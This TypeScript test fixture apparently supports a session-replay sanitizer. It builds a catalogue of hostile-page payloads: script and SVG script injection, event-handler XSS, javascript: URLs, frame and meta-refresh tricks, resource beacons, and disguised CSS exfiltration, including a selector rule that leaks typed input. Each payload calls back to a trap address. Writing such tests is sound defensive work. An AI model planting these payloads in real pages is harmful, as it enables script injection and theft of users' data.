import { element, svg, text, type RecordedNode } from '../support/recorded-nodes.ts'

/** Something that a hostile page could have written, and that must neither run nor reach anybody when it is replayed. */
export interface Payload {
  readonly name: string
  /** It stands in the head of the page rather than its body. */
  readonly head?: boolean
  /** Where it waits for a person (a click, a form sent off) or for a browser of another make, a page without our walls proves nothing. */
  readonly needsMore?: boolean
  readonly nodes: readonly RecordedNode[]
}

/** `at` gives a payload its own address on the trap. */
export function payloads(at: (name: string) => string): Payload[] {
  /** Code that would tell, if it ran: on the dashboard's own window, and to the trap. */
  const run = (name: string): string =>
    `try{(top.ranPayloads??=[]).push(${JSON.stringify(name)})}catch{};new Image().src=${JSON.stringify(at(name))};document.title='owned';void 0`

  const one = (name: string, make: (url: string, code: string) => RecordedNode | RecordedNode[], more: Partial<Payload> = {}): Payload => ({
    name,
    nodes: [make(at(name), run(name))].flat(),
    ...more,
  })
  const css = (name: string, write: (url: string) => string): Payload => one(name, (url) => element('style', {}, [text(write(url))]))
  const inHead = { head: true }
  const needsMore = { needsMore: true }

  return [
    // Scripts
    one('script, inline', (_, code) => element('script', {}, [text(code)])),
    one('script, by address', (url) => element('script', { src: url })),
    one('script, upper case', (_, code) => element('SCRIPT', {}, [text(code)])),
    one('script, module', (url) => element('script', { type: 'module', src: url })),
    one('script, in SVG', (_, code) => svg('svg', {}, [svg('script', {}, [text(code)])])),
    one('script, in SVG by address', (url) => svg('svg', {}, [svg('script', { href: url })])),
    one('script, in a template', (_, code) => element('template', {}, [element('script', {}, [text(code)])])),
    one('script, in a shadow root', (_, code) =>
      element('div', {}, [element('script', {}, [text(code)], { isShadow: true })], { isShadowHost: true }),
    ),
    // Handlers that need nobody
    one('handler, image error', (_, code) => element('img', { src: 'data:image/png;base64,AAAA', onerror: code })),
    one('handler, SVG load', (_, code) => svg('svg', { onload: code }), needsMore),
    one('handler, details toggle', (_, code) => element('details', { open: '', ontoggle: code }, [element('summary'), text('x')])),
    one('handler, focus', (_, code) => element('input', { autofocus: '', onfocus: code }), needsMore),
    one('handler, style load', (_, code) => element('style', { onload: code }, [text('p {}')])),
    one('handler, frame load', (_, code) => element('iframe', { onload: code })),
    one('handler, animation', (_, code) => [
      element('style', {}, [text('@keyframes tick { from { opacity: .9 } } .ticking { animation: tick 50ms }')]),
      element('div', { class: 'ticking', onanimationstart: code }, [text('x')]),
    ]),
    one('handler, SVG animation', (_, code) => svg('svg', {}, [svg('animate', { attributeName: 'x', dur: '1ms', onbegin: code })])),
    one('handler, video source error', (_, code) => element('video', {}, [element('source', { src: 'data:video/mp4,x', onerror: code })])),
    one('handler, upper case', (_, code) => element('img', { src: 'data:image/png;base64,AAAA', ONERROR: code })),
    // Addresses that are code
    one('javascript:, frame', (_, code) => element('iframe', { src: `javascript:${code}` })),
    one('javascript:, object', (_, code) => element('object', { data: `javascript:${code}` }), needsMore),
    one('javascript:, link', (_, code) => element('a', { href: `javascript:${code}` }, [text('click')]), needsMore),
    one('javascript:, form', (_, code) => element('form', { action: `javascript:${code}` }, [element('button')]), needsMore),
    one('javascript:, SVG link', (_, code) => svg('svg', {}, [svg('a', { 'xlink:href': `javascript:${code}` }, [svg('text')])]), needsMore),
    // Frames
    one('frame, srcdoc with a script', (_, code) => element('iframe', { srcdoc: `<script>${code.replaceAll('</', '<\\/')}</script>` })),
    one('frame, srcdoc with an image', (url) => element('iframe', { srcdoc: `<img src="${url}">` })),
    one('frame, by address', (url) => element('iframe', { src: url })),
    one('frame, data with a script', (url) =>
      element('iframe', { src: `data:text/html,<script>new Image().src=${JSON.stringify(url)}</script>` }),
    ),
    one('frame, our own server', () => element('iframe', { src: '/trap-on-own-server' }), needsMore),
    one('frameset', (url) => element('frameset', {}, [element('frame', { src: url })])),
    // The head
    one('meta, refresh', (url) => element('meta', { 'http-equiv': 'refresh', content: `0;url=${url}` }), inHead),
    one('meta, refresh to code', (_, code) => element('meta', { 'http-equiv': 'refresh', content: `0;url=javascript:${code}` }), {
      ...inHead,
      ...needsMore,
    }),
    one('base', (url) => [element('base', { href: `${url}/` }), element('img', { src: 'relative.png' })], { ...inHead, ...needsMore }),
    one('link, style sheet', (url) => element('link', { rel: 'stylesheet', href: url }), inHead),
    one('link, preconnect', (url) => element('link', { rel: 'preconnect', href: url }), { ...inHead, ...needsMore }),
    one('link, DNS prefetch', (url) => element('link', { rel: 'dns-prefetch', href: url }), { ...inHead, ...needsMore }),
    one('link, prefetch', (url) => element('link', { rel: 'prefetch', href: url }), inHead),
    one('link, preload of an image', (url) => element('link', { rel: 'preload', as: 'image', href: url }), inHead),
    one('link, preload of a style', (url) => element('link', { rel: 'PRELOAD', as: 'style', href: url }), inHead),
    one('link, module preload', (url) => element('link', { rel: 'modulepreload', href: url }), inHead),
    one(
      'link, icon and manifest',
      (url) => [element('link', { rel: 'icon', href: url }), element('link', { rel: 'manifest', href: url })],
      inHead,
    ),
    // Things that are fetched
    one('object', (url) => element('object', { data: url })),
    one('embed', (url) => element('embed', { src: url })),
    one('applet', (url) => element('applet', { code: url, archive: url }), needsMore),
    one('image', (url) => element('img', { src: url, alt: 'A mug' })),
    one('image, srcset', (url) => element('img', { srcset: `${url} 1x, ${url} 2x` })),
    one('image, attribution', (url) => element('img', { attributionsrc: url, src: 'data:image/png;base64,AAAA' }), needsMore),
    one('picture', (url) =>
      element('picture', {}, [element('source', { srcset: url }), element('img', { src: 'data:image/png;base64,AAAA' })]),
    ),
    one('input, image', (url) => element('input', { type: 'image', src: url })),
    one('video', (url) => element('video', { src: url, autoplay: '', rr_mediaState: 'played', rr_mediaCurrentTime: 1 })),
    one('video, poster', (url) => element('video', { poster: url })),
    one('video, source and track', (url) =>
      element('video', { preload: 'auto' }, [element('source', { src: url }), element('track', { src: url, default: '' })]),
    ),
    one('audio', (url) => element('audio', { src: url, autoplay: '', preload: 'auto' })),
    one('background of a table', (url) => element('table', { background: url }, [element('tbody', {}, [element('tr')])])),
    one('ping', (url) => element('a', { href: '#', ping: url }, [text('click')]), needsMore),
    // SVG
    one('SVG, image', (url) => svg('svg', {}, [svg('image', { href: url, width: '9', height: '9' })])),
    one('SVG, image by xlink', (url) => svg('svg', {}, [svg('image', { 'xlink:href': url, width: '9', height: '9' })])),
    one('SVG, use of another file', (url) => svg('svg', {}, [svg('use', { href: `${url}#a` })]), needsMore),
    one('SVG, filter image', (url) =>
      svg('svg', {}, [
        svg('filter', { id: 'f' }, [svg('feImage', { href: url })]),
        svg('rect', { width: '9', height: '9', filter: 'url(#f)' }),
      ]),
    ),
    one('SVG, address set by an animation', (url) =>
      svg('svg', {}, [svg('image', { width: '9', height: '9' }, [svg('set', { attributeName: 'href', to: url, begin: '0s' })])]),
    ),
    one('SVG, foreign object', (url) =>
      svg('svg', { width: '9', height: '9' }, [svg('foreignObject', { width: '9', height: '9' }, [element('img', { src: url })])]),
    ),
    one('SVG, mask of another file', (url) => svg('svg', {}, [svg('rect', { width: '9', height: '9', mask: `url(${url}#m)` })])),
    // Style
    css('CSS, import', (url) => `@import url("${url}");`),
    css('CSS, import in disguise', (url) => `@\\69mport "${url}";`),
    css('CSS, background', (url) => `body { background: url(${url}) }`),
    css('CSS, background in disguise', (url) => `body { background-image: u\\72l(${url}) }`),
    css('CSS, image set', (url) => `body { list-style-image: image-set("${url}" 1x) } body::before { content: image-set("${url}" 1x) }`),
    css('CSS, what was typed, letter by letter', (url) => `input[value^="s"] ~ *, html:has(input) { background-image: url("${url}") }`),
    css('CSS, font', (url) => `@font-face { font-family: leak; src: url("${url}") } body { font-family: leak }`),
    css('CSS, cursor and border', (url) => `html { cursor: url("${url}"), auto; border: 1px solid; border-image: url("${url}") 1 }`),
    css('CSS, generated content', (url) => `html::after { content: url("${url}") }`),
    css('CSS, mask and shape', (url) => `body { -webkit-mask-image: url("${url}"); float: left; shape-outside: url("${url}") }`),
    one('style attribute', (url) => element('div', { style: `background: url('${url}')` }, [text('x')])),
    // What the recorder adds
    one('canvas, picture by address', (url) => element('canvas', { rr_dataURL: url }), needsMore),
    one('image, picture by address', (url) => element('img', { rr_dataURL: url }), needsMore),
    one('link, with its style', (url) => element('link', { rel: 'stylesheet', href: url, _cssText: `body { background: url("${url}") }` })),
    one('custom element', (url) => element('x-leak', { is: 'x-leak', src: url }, [element('img', { src: url })], { isCustom: true })),
    one('old frames', (url) => [element('portal', { src: url }), element('fencedframe', { src: url })], needsMore),
  ]
}
